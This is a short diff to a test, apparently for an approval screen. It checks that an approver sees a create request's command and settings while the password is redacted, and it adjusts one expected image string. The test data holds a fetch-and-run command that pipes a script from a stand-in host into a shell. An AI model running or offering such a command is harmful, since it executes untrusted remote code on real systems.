@@ -22,7 +22,7 @@ test("an approver of a create sees its command and settings, without secrets", a
 
   const shown = card(town.approver);
   expect(shown).toContain('command: sh -c "curl https://x.example/i.sh | sh" --db-password [redacted]');
-  expect(shown).toContain("image test/web:1");
+  expect(shown).toContain("of test/web:1");
   expect(shown).toContain("memory 512 MiB");
   expect(shown).toContain("environment variables GREETING, PGPASS");
   expect(shown).toContain("8080/tcp");
